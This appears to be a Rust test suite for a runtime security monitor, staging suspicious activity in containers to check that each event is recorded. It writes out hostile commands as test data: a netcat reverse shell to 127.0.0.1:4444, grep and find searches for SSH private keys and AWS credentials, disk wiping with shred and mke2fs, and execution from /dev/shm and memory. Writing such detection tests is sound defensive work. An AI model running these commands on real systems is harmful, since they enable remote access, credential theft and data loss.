//! Programs: who starts them, where they come from, what they are told.
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};

use super::container::Bundle;
use super::network::REMOTE_SHELL;
use super::stage::Stage;
use super::{has_flag, in_container, is_below, is_by, number, text, words};
use crate::actor::actor;

const CGI: &str = "#!/bin/sh\necho\nid\n";

#[test]
fn a_shell_below_a_web_server() {
    let script = "chmod +x www/cgi-bin/ask; /bin/httpd -p 127.0.0.1:8080 -h /work/www; wget -qO- http://127.0.0.1:8080/cgi-bin/ask";
    let bundle = Bundle::new(script).map(|bundle| bundle.with_file("www/cgi-bin/ask", CGI));
    let row = in_container("the shell", bundle, |row| {
        is_by(row, "exec", "/bin/sh") && is_below(row, "httpd")
    });
    let Some(row) = row else { return };
    assert_eq!(text(&row, "/event/filename"), "ask");
}

#[test]
fn a_service_account_works_below_sshd() {
    const WWW_DATA: u32 = 33;

    let Some(mut stage) = Stage::new() else { return };
    let folder = tempfile::tempdir().expect("a folder");
    let sshd = folder.path().join("sshd");
    std::fs::copy("/bin/sh", &sshd).expect("a copy");
    for path in [folder.path(), &sshd] {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("ours");
    }
    let mut login = Command::new(&sshd);
    login.arg0("sh").args(["-c", "/bin/cat /etc/hostname; :"]);
    stage.run(
        login
            .uid(WWW_DATA)
            .gid(WWW_DATA)
            .stdout(Stdio::null())
            .stderr(Stdio::null()),
    );
    let row = stage.row("the program", |row| {
        text(row, "/event/kind") == "exec" && text(row, "/event/filename") == "/bin/cat" && is_below(row, "sshd")
    });
    assert_eq!(number(&row, "/process/uid"), u64::from(WWW_DATA));
}

#[test]
fn a_shell_with_a_terminal_is_entered_into_a_container() {
    let Some(bundle) = Bundle::new("sleep 30") else { return };
    let Some(mut stage) = Stage::new() else { return };
    let script = "runc run --detach --bundle \"$1\" \"$2\" < /dev/null > /dev/null 2>&1; \
                  script --quiet --command \"runc exec --tty $2 /bin/sh -c :\" /dev/null; \
                  runc delete --force \"$2\"";
    bundle.run_by(&mut stage, script);
    let row = stage.row("the shell", |row| {
        bundle.has(row) && is_by(row, "exec", "/bin/sh") && !text(row, "/process/tty").is_empty()
    });
    assert!(text(&row, "/process/tty").starts_with("pts/"), "{row}");
    // Between them is runc itself, from a copy that has no name.
    assert!(is_below(&row, "runc") && !is_below(&row, "sh"), "{row}");
}

#[test]
fn netcat_is_told_to_execute() {
    let row = in_container("netcat", Bundle::new(REMOTE_SHELL), |row| {
        is_by(row, "exec", "/bin/nc") && words(row).contains(&"-e")
    });
    let Some(row) = row else { return };
    assert_eq!(words(&row), ["/bin/nc", "127.0.0.1", "4444", "-e", "/bin/sh"]);
}

#[test]
fn somebody_searches_for_keys_and_passwords() {
    let script = "/bin/grep -r 'BEGIN OPENSSH PRIVATE KEY' /work; /bin/find /work -name id_rsa";
    let Some(bundle) = Bundle::new(script) else { return };
    let bundle = bundle.with_file("id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\n");
    let Some(mut stage) = Stage::new() else { return };
    bundle.run(&mut stage);
    for (exe, word) in [("/bin/grep", "BEGIN OPENSSH PRIVATE KEY"), ("/bin/find", "id_rsa")] {
        stage.row(exe, |row| {
            bundle.has(row) && is_by(row, "exec", exe) && words(row).contains(&word)
        });
    }
}

#[test]
fn data_is_destroyed() {
    let script = "dd if=/dev/zero of=disk bs=1k count=256; /bin/shred disk; /bin/mke2fs -F disk";
    let Some(bundle) = Bundle::new(script) else { return };
    let Some(mut stage) = Stage::new() else { return };
    bundle.run(&mut stage);
    for exe in ["/bin/shred", "/bin/mke2fs"] {
        let row = stage.row(exe, |row| bundle.has(row) && is_by(row, "exec", exe));
        assert!(words(&row).contains(&"disk"), "{row}");
    }
}

#[test]
fn a_file_system_debugger_in_a_privileged_container() {
    // All that there are to give: this may be a container itself.
    let all = caps::read(None, caps::CapSet::Permitted).expect("capabilities");
    let mask = all.iter().fold(0, |mask, capability| mask | capability.bitmask());
    let names: Vec<String> = all.iter().map(ToString::to_string).collect();
    let script = "dd if=/dev/zero of=disk bs=1k count=256; mke2fs -F disk; debugfs -R ls disk";
    let bundle = Bundle::new(script).map(|bundle| bundle.grant(names.iter().map(String::as_str)));
    let row = in_container("the debugger", bundle, |row| {
        text(row, "/event/kind") == "exec" && text(row, "/event/filename").ends_with("/debugfs")
    });
    let Some(row) = row else { return };
    assert_eq!(number(&row, "/columns/capabilities"), mask, "every capability");
}

#[test]
fn somebody_searches_for_credentials_of_a_cloud() {
    let script = "/bin/grep aws_secret_access_key .aws/credentials; /bin/find /work -path '*/.aws/credentials'";
    let Some(bundle) = Bundle::new(script) else { return };
    let bundle = bundle.with_file(".aws/credentials", "aws_secret_access_key = x\n");
    let Some(mut stage) = Stage::new() else { return };
    bundle.run(&mut stage);
    for (exe, word) in [
        ("/bin/grep", "aws_secret_access_key"),
        ("/bin/find", "*/.aws/credentials"),
    ] {
        stage.row(exe, |row| {
            bundle.has(row) && is_by(row, "exec", exe) && words(row).contains(&word)
        });
    }
}

#[test]
fn something_runs_from_shared_memory() {
    let script = "cp /bin/true /dev/shm/true; /dev/shm/true; echo : > /dev/shm/script; /bin/sh /dev/shm/script; \
                  cd /dev/shm; /bin/true";
    let Some(mut bundle) = Bundle::new(script) else { return };
    let mounts = bundle.spec["mounts"].as_array_mut().expect("a list");
    let shared = mounts.iter_mut().find(|mount| mount["destination"] == "/dev/shm");
    let options = shared.expect("it is there")["options"].as_array_mut().expect("a list");
    options.retain(|option| option != "noexec");
    let Some(mut stage) = Stage::new() else { return };
    bundle.run(&mut stage);
    let exec = |row: &serde_json::Value, exe: &str| bundle.has(row) && is_by(row, "exec", exe);
    stage.row("the program there", |row| exec(row, "/dev/shm/true"));
    stage.row("the script there", |row| {
        exec(row, "/bin/sh") && words(row).contains(&"/dev/shm/script")
    });
    stage.row("the program started there", |row| {
        exec(row, "/bin/true") && text(row, "/process/cwd") == "/dev/shm"
    });
}

#[test]
fn a_program_that_was_dropped_into_a_container() {
    let script = "cp /bin/busybox /tmp/dropped; /tmp/dropped true; /bin/true";
    let Some(bundle) = Bundle::new(script) else { return };
    let Some(mut stage) = Stage::new() else { return };
    bundle.run(&mut stage);
    for (exe, is_new) in [("/tmp/dropped", true), ("/bin/true", false)] {
        let row = stage.row(exe, |row| bundle.has(row) && is_by(row, "exec", exe));
        assert_eq!(has_flag(&row, "upper"), is_new, "{row}");
    }
}

#[test]
fn a_program_that_never_was_a_file() {
    let Some(mut stage) = Stage::new() else { return };
    let folder = tempfile::tempdir().expect("a folder");
    let pid = stage.run(&mut actor("exec-memfd", "", folder.path()));
    let row = stage.row("the program", |row| {
        number(row, "/process/pid") == u64::from(pid) && is_by(row, "exec", "memfd:demo")
    });
    assert!(has_flag(&row, "memfd"), "{row}");
}
